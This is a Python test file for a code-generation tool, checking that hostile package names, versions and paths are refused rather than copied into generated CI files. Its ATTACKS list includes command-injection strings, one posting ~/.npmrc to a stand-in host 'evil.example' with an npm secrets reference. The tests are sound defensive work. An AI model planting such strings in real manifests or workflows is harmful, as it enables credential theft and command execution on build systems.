"""Hostile repository values never become code in generated files (issue 15)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.files import Files, write_tree
from jobs.pipeline import untrusted
from jobs.pipeline.plan import plan_generation
from tests.jobs.conftest import REPO_NAMES, repo

# (what the attacker writes, the part that must never reach a generated file)
ATTACKS = [
    ("web$(curl -sd@$HOME/.npmrc evil.example)${{ secrets.NPM_TOKEN }}", "$(curl"),
    ("web${{ secrets.NPM_TOKEN }}", "secrets.NPM_TOKEN"),
    ("web`id`", "`id`"),
    ("web;evilcmd;", ";evilcmd"),
    ("web\nrun: evilcmd", "run: evilcmd"),
    ("web' || secrets.X || '", "secrets.X"),
    ("web && evilcmd", "&& evilcmd"),
    ("web|evilcmd", "|evilcmd"),
    ('web" evilcmd "', '" evilcmd'),
]


def _hostile(files: Files, value: str, where: str) -> Files:
    """`files` with `value` written where detection reads a name, version or path."""
    out = dict(files)
    for path, text in files.items():
        name = path.rsplit("/", 1)[-1]
        if where == "name" and name == "package.json":
            data = json.loads(text)
            data["name"] = value
            out[path] = json.dumps(data)
        elif where == "name" and name in ("Cargo.toml", "pyproject.toml"):
            out[path] = re.sub(r'(?m)^name\s*=\s*".*"$', lambda _: "name = " + json.dumps(value),
                               text)
        elif where == "name" and name == "go.mod":
            out[path] = re.sub(r"(?m)^module\s+\S+", lambda _: "module " + value.replace("\n", " "),
                               text)
        elif where == "name" and name == "pom.xml":
            out[path] = re.sub(r"<artifactId>[^<]*</artifactId>",
                               lambda _: f"<artifactId>{value}</artifactId>", text, count=2)
        elif where == "version" and name in (".nvmrc", ".python-version", "go.mod"):
            out[path] = re.sub(r"(?m)^go \S+", lambda _: f"go {value}", text) if name == "go.mod" \
                else value
    if where == "version":
        for path in files:
            if path.endswith("package.json"):
                data = json.loads(files[path])
                data["engines"] = {"node": f"20{value}"}
                out[path] = json.dumps(data)
    if where == "path":  # the directory of every manifest gets the hostile name
        safe = value.replace("/", "_")
        out = {re.sub(r"^(apps|services|packages|crates|cmd)/[^/]+/",
                      lambda m: f"{m.group(1)}/{safe}/", p): t
               for p, t in out.items()}
    return out


def _assert_inert(files: Files, core: str) -> None:
    plan = plan_generation(files)
    for a in plan.artifacts:
        assert core not in a.content, f"{a.path} carries {core!r}"
        assert "\nevilcmd" not in a.content


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(name=st.sampled_from(REPO_NAMES), attack=st.sampled_from(ATTACKS),
       prefix=st.text(st.characters(codec="utf-8"), max_size=6),
       where=st.sampled_from(["name", "version", "path"]))
def test_hostile_values_through_every_stack_and_template(name: str, attack: tuple[str, str],
                                                         prefix: str, where: str) -> None:
    value, core = attack
    _assert_inert(_hostile(repo(name), prefix + value, where), core)


@pytest.mark.parametrize(("value", "core"), ATTACKS, ids=[c for _, c in ATTACKS])
def test_every_attack_on_every_sample_repo_name(value: str, core: str) -> None:
    for name in REPO_NAMES:
        _assert_inert(_hostile(repo(name), value, "name"), core)


def test_the_reported_workspace_name_is_refused_with_a_reason(tmp_path: Path) -> None:
    """The issue's case, as a user meets it: `shipcrew run --json` on the repo."""
    files = _hostile(repo("node-workspaces"), ATTACKS[0][0], "name")
    write_tree(tmp_path / "repo", files)
    out = subprocess.run([sys.executable, "-m", "app.cli", "run", str(tmp_path / "repo"),
                          "--json", "--out", str(tmp_path / "out")],
                         capture_output=True, text=True, timeout=120)
    result = json.loads(out.stdout)
    refused = [a for a in result["artifacts"] if a["reason"].startswith("refused")]
    assert refused and all(a["action"] == "skip" for a in refused)
    assert "test command" in refused[0]["reason"] or "name" in refused[0]["reason"]
    written = [p.read_text() for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert written and not any("$(curl" in t or "NPM_TOKEN" in t for t in written)


@pytest.mark.parametrize(("check", "good", "bad"), [
    (untrusted.npm_name, ["web", "@acme/web", "a.b_c-d~e"], ["Web", "@acme/../x", "a b", "",
                                                             "x$(id)", "a" * 215]),
    (untrusted.python_module, ["app.main", "_x.y1"], ["app-main", "1x", "a..b", "a.$b"]),
    (untrusted.version, ["3.12", "24", "1.2.3-rc.1", "pypy3.10"], ["3.12 # x", "$(x)", "-1",
                                                                   "a\nb", "${{ x }}"]),
    (untrusted.path, ["a/b.c", ".", "apps/web"], ["/etc", "a/../b", "a b", "a/$(x)", "a\\b"]),
    (untrusted.command, ["npm run test --workspace=apps/web", 'pip install -e ".[dev]"'],
     ["a && b", "a;b", "a | b", "a $(b)", "a `b`", "a\nb", "echo ${{ secrets.X }}", "a  b",
      "a > f", 'x "$HOME"']),
])
def test_value_rules(check, good: list[str], bad: list[str]) -> None:  # type: ignore[no-untyped-def]
    for value in good:
        assert check("field", value) == value
    for value in bad:
        with pytest.raises(untrusted.UntrustedValue):
            check("field", value)


def test_ports_are_integers_in_range() -> None:
    assert untrusted.port("port", 8080) == 8080
    for bad in (0, 65536, "80", True, None):
        with pytest.raises(untrusted.UntrustedValue):
            untrusted.port("port", bad)
